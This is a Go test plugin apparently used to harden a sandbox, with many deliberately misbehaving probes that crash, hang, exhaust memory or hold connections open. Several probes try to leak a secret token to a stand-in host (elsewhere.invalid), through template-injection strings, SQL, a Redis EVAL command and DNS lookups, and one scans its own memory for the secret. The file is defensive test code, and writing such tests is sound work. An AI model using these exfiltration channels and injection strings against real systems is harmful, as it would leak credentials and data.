// Package main is a plugin of probes that misbehave or spy, one for each thing that
// the sandbox has to withstand.
package main

import (
	"crypto/rand"
	"io"
	"math"
	"os"
	"strconv"
	"strings"
	"time"
	"unsafe"

	"vega/sdk"
	"vega/sdk/abi"
)

func main() {}

func init() {
	sdk.Probe("fine", func(*sdk.Run) sdk.Result { return sdk.Healthy("fine") })
	sdk.Probe("trap", func(r *sdk.Run) sdk.Result { return sdk.Healthy(r.Strings("none")[3]) })
	sdk.Probe("exit", func(*sdk.Run) sdk.Result { os.Exit(0); return sdk.Healthy("") })
	sdk.Probe("three", func(*sdk.Run) sdk.Result { return sdk.Unknown("I can't tell") })
	sdk.Probe("silent", func(*sdk.Run) sdk.Result { return sdk.Unhealthy("") })
	sdk.Probe("details", details)
	sdk.Probe("metric", func(*sdk.Run) sdk.Result { abi.Metric("nan", math.NaN(), ""); return sdk.Healthy("") })
	sdk.Probe("logs", logs)
	sdk.Probe("hungry", hungry)
	sdk.Probe("spin", func(*sdk.Run) sdk.Result { return sdk.Healthy(strconv.Itoa(spin(1))) })
	sdk.Probe("sleep", func(*sdk.Run) sdk.Result { time.Sleep(time.Hour); return sdk.Healthy("") })
	sdk.Probe("forget", forget)
	sdk.Probe("count", count)
	sdk.Probe("get", get)
	sdk.Probe("reach", reach)
	sdk.Probe("dial", dial)
	sdk.Probe("handles", handles)
	sdk.Probe("resolve", resolve)
	sdk.Probe("query", query)
	sdk.Probe("kv", kv)
	sdk.Probe("echo", echo)
	sdk.Probe("memory", memory)
	sdk.Probe("guess", guess)
	sdk.Probe("smuggle", smuggle)
	sdk.Probe("stumble", stumble)
	sdk.Probe("clock", func(*sdk.Run) sdk.Result { return sdk.Healthy(strconv.FormatInt(time.Now().UnixNano(), 10)) })
	sdk.Probe("past", past)
	sdk.Probe("kinds", func(r *sdk.Run) sdk.Result {
		n := abi.TLSInfo(abi.HTTPRequest("GET", r.String("url")), abi.TLSVersion, nil, 0)
		return sdk.Healthy(strconv.Itoa(int(n)) + " and " + strconv.Itoa(int(abi.TLSInfo(99, abi.TLSVersion, nil, 0))))
	})
	sdk.Probe("dice", func(*sdk.Run) sdk.Result { return sdk.Healthy(rand.Text()) })
	sdk.Probe("misspelt", func(r *sdk.Run) sdk.Result {
		if _, err := r.Dial("tcp", r.String("adress")); err != nil {
			return sdk.Failed(r.String("adress"), err)
		}
		return sdk.Healthy("")
	})
	sdk.Probe("deadlock", func(*sdk.Run) sdk.Result { select {} })
	sdk.Probe("apart", func(*sdk.Run) sdk.Result {
		go func() { panic("in a goroutine of its own") }()
		time.Sleep(time.Second)
		return sdk.Healthy("")
	})
	sdk.Probe("recovers", recovers)
	sdk.Probe("unended", func(*sdk.Run) sdk.Result { _, _ = os.Stdout.WriteString("no line end"); return sdk.Healthy("") })
}

// past asks for a column after the last row.
func past(r *sdk.Run) sdk.Result {
	rows, err := r.Query(r.String("database"), "SELECT 1")
	if err != nil {
		return sdk.Unhealthy(err.Error())
	}
	for rows.Next() {
	}
	if v, err := rows.Column(0); err == nil {
		return sdk.Unhealthy("there still is " + v)
	}
	return sdk.Healthy("")
}

// recovers hides its panic, so that it returns the zero Result.
func recovers(r *sdk.Run) (result sdk.Result) {
	defer func() { _ = recover() }()
	return sdk.Unhealthy(r.Strings("none")[3])
}

// stumble panics on a denial.
func stumble(r *sdk.Run) sdk.Result {
	if _, err := r.HTTP("GET", r.String("url")).Send(); err != nil {
		panic(err)
	}
	return sdk.Healthy("")
}

func details(r *sdk.Run) sdk.Result {
	for i := range 65 {
		r.Detail("d"+strconv.Itoa(i), "x")
	}
	return sdk.Healthy("")
}

func logs(r *sdk.Run) sdk.Result {
	for range 200 {
		r.Info(strings.Repeat("x", 900))
		_, _ = os.Stderr.WriteString(strings.Repeat("y", 5000) + "\n")
	}
	return sdk.Healthy("said a lot")
}

// hungry allocates memory until none is left.
func hungry(*sdk.Run) sdk.Result {
	var all [][]byte
	for {
		b := make([]byte, 1<<20)
		for i := range b {
			b[i] = 1
		}
		all = append(all, b)
		if len(all) > 1<<20 {
			return sdk.Healthy("never full")
		}
	}
}

func spin(n int) int {
	for n != 0 {
		n += 2
	}
	return n
}

var seen int

// count reports how often it ran in this instance.
func count(*sdk.Run) sdk.Result {
	seen++
	if seen > 1 {
		return sdk.Unhealthy("state of another run")
	}
	return sdk.Healthy("first")
}

// forget opens a connection and neither reads, closes nor reports.
func forget(r *sdk.Run) sdk.Result {
	c, err := r.Dial("tcp", r.String("address"))
	if err != nil {
		return sdk.Unhealthy(err.Error())
	}
	_, err = c.Read(make([]byte, 1))
	if err != nil {
		return sdk.Unhealthy("waited in vain: " + err.Error())
	}
	return sdk.Healthy("")
}

func get(r *sdk.Run) sdk.Result {
	q := r.HTTP("GET", r.String("url"))
	for _, h := range r.Map("headers") {
		q.Header(h.Key, h.Value)
	}
	res, err := q.Send()
	if err != nil {
		return sdk.Unhealthy(err.Error())
	}
	for _, h := range []string{"X-Echo", "Location"} {
		r.Detail(h, res.Header(h))
	}
	first := make([]byte, 3)
	n, err := res.Read(first)
	if err != nil && err != io.EOF { //nolint:errorlint // never wrapped
		return sdk.Unhealthy(err.Error())
	}
	if path := r.String("json"); path != "" {
		v, err := res.JSON(path)
		if err != nil {
			return sdk.Unhealthy(err.Error())
		}
		r.Detail("json", v)
		r.Detail("end of json", v[max(0, len(v)-2):])
	}
	body, err := res.Text(1 << 20)
	if err != nil {
		return sdk.Unhealthy(err.Error())
	}
	r.Detail("body", string(first[:n])+body)
	return sdk.Healthy("status " + strconv.Itoa(res.Status))
}

// reach makes the call that network names.
func reach(r *sdk.Run) (result sdk.Result) {
	to := r.String("name")
	var err error
	switch r.String("network") {
	case "icmp":
		_, err = r.Ping(to, sdk.Echo{Count: 1})
	case "websocket":
		_, _, err = r.WebSocket(to).Open()
	case "ssh":
		_, err = r.SSH(to)
	case "unix":
		_, err = r.Dial("unix", to)
	case "http over unix":
		_, err = r.HTTP("GET", "http://localhost/").Unix(to).Send()
	case "http2":
		_, err = r.HTTP("POST", to).HTTP2().Send()
	}
	if err != nil {
		return sdk.Unhealthy(err.Error())
	}
	return sdk.Healthy("reached " + to)
}

func dial(r *sdk.Run) sdk.Result {
	c, err := r.Dial(r.String("network"), r.String("address"))
	if err != nil {
		return sdk.Unhealthy(err.Error())
	}
	if s := r.String("send"); s != "" {
		if err := c.WriteString(s); err != nil {
			return sdk.Unhealthy(err.Error())
		}
	}
	line, err := c.ReadLine(1000)
	if err != nil {
		return sdk.Unhealthy(err.Error())
	}
	return sdk.Healthy(line)
}

func handles(r *sdk.Run) sdk.Result {
	for i := range 100 {
		if n := abi.HTTPRequest("GET", r.String("url")); n < 0 {
			return sdk.Healthy("refused number " + strconv.Itoa(i+1) + " with " + strconv.Itoa(int(n)))
		}
	}
	return sdk.Unhealthy("never refused")
}

func resolve(r *sdk.Run) sdk.Result {
	a, err := r.Resolve("A", r.String("name"), "")
	if err != nil {
		return sdk.Unhealthy(err.Error())
	}
	return sdk.Healthy(strings.Join(a, " "))
}

func query(r *sdk.Run) sdk.Result {
	rows, err := r.Query(r.String("database"), r.String("sql"))
	if err != nil {
		return sdk.Unhealthy(err.Error())
	}
	var out []string
	for rows.Next() {
		v, err := rows.Column(0)
		if err != nil {
			v = err.Error()
		}
		out = append(out, v)
	}
	if err := rows.Err(); err != nil {
		return sdk.Unhealthy(err.Error())
	}
	return sdk.Healthy(strings.Join(out, ","))
}

func kv(r *sdk.Run) sdk.Result {
	old, err := r.KVGet("k")
	if err != nil {
		old = err.Error()
	}
	if err := r.KVSet("k", r.String("value")); err != nil {
		return sdk.Unhealthy(err.Error())
	}
	return sdk.Healthy("was: " + old)
}

// echo reports all it can see, in every way there is.
func echo(r *sdk.Run) sdk.Result {
	var all strings.Builder
	n := r.Int("#")
	for i := range n {
		name := r.String("@" + strconv.Itoa(i))
		value := r.String(name)
		all.WriteString(name + "=" + value + ";")
		r.Detail("value of "+name, value)
		r.Detail(value, name)
		r.Metric(value, 1, value)
		r.Info(value)
		_, _ = os.Stdout.WriteString(value + "\n")
		_, _ = os.Stderr.WriteString(value + "\n")
	}
	if url := r.String("url"); url != "" {
		res, err := r.HTTP("GET", url).Header("Authorization", r.String("token")).Body(r.String("token")).Send()
		if err != nil {
			return sdk.Unhealthy(err.Error() + " " + all.String())
		}
		body, err := res.Text(1 << 16)
		if err != nil {
			return sdk.Unhealthy(err.Error() + " " + all.String())
		}
		r.Detail("answer", body)
		r.Detail("answered header", res.Header("X-Echo"))
		all.WriteString(body)
	}
	if _, err := r.HTTP("GET", "https://elsewhere.invalid/"+r.String("token")).Send(); err != nil {
		r.Detail("error", err.Error())
	}
	return sdk.Healthy(all.String())
}

// guess has texts echoed over HTTP and TCP, and passes them to calls that are
// refused. Its message contains all that it can observe about the first text: the
// length of each read, whether the text came back unchanged, and the texts of errors
// without the text itself. A detail contains what differs for another text.
func guess(r *sdk.Run) sdk.Result {
	first := ""
	for i, g := range r.Strings("guesses") {
		var seen strings.Builder
		note := func(err error) { seen.WriteString(strings.ReplaceAll(err.Error(), g, "GUESS") + ";") }
		if url := r.String("url"); url != "" {
			res, err := r.HTTP("GET", url).Header("Authorization", "Bearer "+r.String("token")).Body(g).Send()
			if err != nil {
				return sdk.Unhealthy(err.Error())
			}
			observe(&seen, res, g)
			seen.WriteString(strconv.FormatBool(res.Header("X-Echo") == g) + ";")
			res.Close()
		}
		if address := r.String("address"); address != "" {
			c, err := r.Dial("tcp", address)
			if err != nil {
				return sdk.Unhealthy(err.Error())
			}
			if err := c.WriteString(g); err != nil {
				note(err)
			}
			observe(&seen, c, g)
			c.Close()
		}
		if _, err := r.HTTP("GET", "https://elsewhere.invalid/"+g).Send(); err != nil {
			note(err)
		}
		if _, err := r.Resolve("A", g, ""); err != nil {
			note(err)
		}
		if err := r.KVSet("k", g); err != nil {
			note(err)
		} else if v, err := r.KVGet("k"); err != nil || v != g {
			seen.WriteString("kept as another text;")
		}
		if first == "" {
			first = seen.String()
		} else if seen.String() != first {
			r.Detail(strconv.Itoa(i), seen.String())
		}
	}
	return sdk.Healthy(first)
}

// observe reads to the end in small pieces.
func observe(seen *strings.Builder, from io.Reader, want string) {
	var all []byte
	for p := make([]byte, 7); ; {
		n, err := from.Read(p)
		all = append(all, p[:n]...)
		seen.WriteString(strconv.Itoa(n) + ",")
		if err != nil {
			break
		}
	}
	seen.WriteString(strconv.FormatBool(string(all) == want) + ";")
}

// smuggle sends its secret in every way in which the far end could compute with it.
func smuggle(r *sdk.Run) sdk.Result {
	token, url := r.String("token"), r.String("url")
	try := func(name string, err error) {
		if err == nil {
			r.Detail(name, "sent")
		} else {
			r.Detail(name, err.Error())
		}
	}
	send := func(name string, q *sdk.Request) { _, err := q.Send(); try(name, err) }
	send("body", r.HTTP("GET", url).Body(token))
	send("template", r.HTTP("GET", url).Header("Content-Type", "application/json").Body(`{"template":"{{'`+token+`'|base64_encode}}"}`))
	send("query", r.HTTP("GET", url+"?q="+token))
	send("header", r.HTTP("GET", url).Header("X-Template", "{{'"+token+"'|upper}}"))
	send("basic", r.HTTP("GET", url).BasicAuth("me", "x"+token))
	_, err := r.Query(r.String("database"), "SELECT hex('"+token+"')")
	try("sql", err)
	c, err := r.Dial("tcp", r.String("address"))
	if err == nil {
		err = c.WriteString("EVAL \"return string.byte(ARGV[1],1)\" 0 " + token + "\r\n")
	}
	try("redis", err)
	_, err = r.Resolve("A", token+".example.com", "")
	try("dns", err)
	return sdk.Healthy("tried")
}

// memory has the secret echoed, and then searches its own linear memory for the two
// halves of it, one right after the other.
func memory(r *sdk.Run) sdk.Result {
	echo(r)
	first, second := r.String("half1"), r.String("half2")
	pages := memorySize()
	all := unsafe.Slice((*byte)(unsafe.Pointer(uintptr(4096))), pages*65536-4096)
	for i := 0; i+len(first)+len(second) <= len(all); i++ {
		if same(all[i:], first) && same(all[i+len(first):], second) {
			return sdk.Unhealthy("found it at " + strconv.Itoa(i))
		}
	}
	return sdk.Healthy("searched " + strconv.Itoa(len(all)) + " bytes")
}

func same(b []byte, s string) bool {
	for i := 0; i < len(s); i++ {
		if b[i] != s[i] {
			return false
		}
	}
	return true
}

// memorySize returns the end of the heap in pages, a lower bound of the memory's size.
func memorySize() int {
	b := make([]byte, 1<<16)
	return int(uintptr(unsafe.Pointer(&b[len(b)-1]))) / 65536
}
